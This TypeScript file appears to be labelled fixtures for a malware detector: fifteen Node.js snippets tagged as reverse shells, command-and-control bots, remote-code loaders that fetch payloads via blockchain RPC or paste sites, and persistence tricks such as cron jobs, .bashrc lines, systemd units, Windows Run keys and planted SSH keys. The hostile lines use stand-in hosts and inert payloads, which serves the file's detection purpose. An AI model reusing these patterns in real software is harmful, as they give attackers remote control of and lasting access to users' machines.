import type { Malice } from './malice.ts'

/** Somebody else decides what the machine does, or makes it start again. */
export const control: readonly Malice[] = [
  {
    id: 'reverse-shell', is: ['reverse-shell', 'remote-control'],
    code: `
const net = require('net')
const { spawn } = require('child_process')
const shell = spawn('/bin/sh', [])
const client = new net.Socket()
«client.connect(4444, '203.0.113.5', () => {
  client.pipe(shell.stdin)
  shell.stdout.pipe(client)
  shell.stderr.pipe(client)
})»`,
  },
  {
    id: 'reverse-shell-line', is: ['reverse-shell'],
    code: `
const { exec } = require('child_process')
const host = '203.0.113.5'
«exec('bash -c "bash -i >& /dev/tcp/' + host + '/4444 0>&1"')»`,
  },
  {
    id: 'polling-bot', is: ['remote-control', 'fetch-and-run'],
    code: `
const { exec } = require('child_process')
const server = 'http://203.0.113.77:8080'
async function tick() {
  const task = await (await fetch(server + '/task')).text()
  «exec(task, (error, stdout) => { fetch(server + '/result', { method: 'POST', body: stdout }) })»
}
setInterval(tick, 5000)`,
  },
  {
    id: 'socket-commands', is: ['remote-control', 'reverse-shell', 'fetch-and-run'],
    code: `
const net = require('net')
const { exec } = require('child_process')
const line = net.createConnection({ host: '198.51.100.4', port: 9001 })
«line.on('data', (data) => {
  exec(data.toString(), (error, output) => line.write(output))
})»`,
  },
  {
    id: 'websocket-commands', is: ['remote-control', 'fetch-and-run'],
    code: `
const WebSocket = require('ws')
const socket = new WebSocket('wss://live.drop.example/bot')
«socket.on('message', (message) => {
  const order = JSON.parse(message)
  eval(order.code)
})»`,
  },
  {
    id: 'blockchain-mailbox', is: ['fetch-and-run', 'remote-control', 'hidden-code'],
    code: `
const call = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x00000000219ab540356cBB839Cbe05303d7705Fa', data: '0x6d4ce63c' }, 'latest'] }
async function mail() {
  const answer = await fetch('https://rpc.chain.example/', { method: 'POST', body: JSON.stringify(call) })
  const { result } = await answer.json()
  const text = Buffer.from(result.slice(2), 'hex').toString()
  «eval(text)»
}
mail()`,
  },
  {
    id: 'memo-mailbox', is: ['fetch-and-run', 'remote-control', 'hidden-code'],
    code: `
const axios = require('axios')
async function memo() {
  const { data } = await axios.post('https://sol.chain.example/', { method: 'getSignaturesForAddress', params: ['11111111111111111111111111111111'] })
  const link = Buffer.from(data.result[0].memo, 'base64').toString()
  const second = await axios.get(link)
  «new Function(second.data)()»
}
memo().catch(() => {})`,
  },
  {
    id: 'paste-mailbox', is: ['fetch-and-run', 'hidden-code', 'remote-control'],
    code: `
const https = require('https')
«https.get('https://paste.drop.example/raw/AbC123', (response) => {
  let text = ''
  response.on('data', (part) => { text += part })
  response.on('end', () => {
    const code = Buffer.from(text, 'base64').toString('utf8')
    new Function('require', code)(require)
  })
})»`,
  },
  {
    id: 'shell-startup', is: ['persistence'],
    code: `
const fs = require('fs')
const os = require('os')
const path = require('path')
const line = '\\nnode ~/.cache/helper.js &\\n'
«fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)»`,
  },
  {
    id: 'cron', is: ['persistence'],
    code: `
const { execSync } = require('child_process')
const job = '*/5 * * * * node /tmp/helper.js'
«execSync('(crontab -l; echo "' + job + '") | crontab -')»`,
  },
  {
    id: 'launch-agent', is: ['persistence'],
    code: `
const fs = require('fs')
const os = require('os')
const plist = '<plist><dict><key>RunAtLoad</key><true/></dict></plist>'
const target = os.homedir() + '/Library/LaunchAgents/com.helper.plist'
«fs.writeFileSync(target, plist)»`,
  },
  {
    id: 'systemd-unit', is: ['persistence'],
    code: `
const fs = require('fs')
const { join } = require('path')
const { homedir } = require('os')
const unit = '[Service]\\nExecStart=/usr/bin/node /tmp/helper.js\\nRestart=always\\n'
«fs.writeFileSync(join(homedir(), '.config', 'systemd', 'user', 'helper.service'), unit)»`,
  },
  {
    id: 'run-key', is: ['persistence'],
    code: `
const { exec } = require('child_process')
const program = 'C:\\\\Users\\\\Public\\\\helper.exe'
«exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Helper /d ' + program + ' /f')»`,
  },
  {
    id: 'startup-folder', is: ['persistence'],
    code: `
const fs = require('fs')
const path = require('path')
const folder = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
«fs.writeFileSync(path.join(folder, 'helper.vbs'), 'WScript.Echo "inert"')»`,
  },
  {
    id: 'authorized-keys', is: ['persistence', 'credential-theft'],
    code: `
const fs = require('fs')
const os = require('os')
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInertInertInertInertInertInert nobody@drop.example'
const target = os.homedir() + '/.ssh/authorized_keys'
«fs.appendFileSync(target, key + '\\n')»`,
  },
]
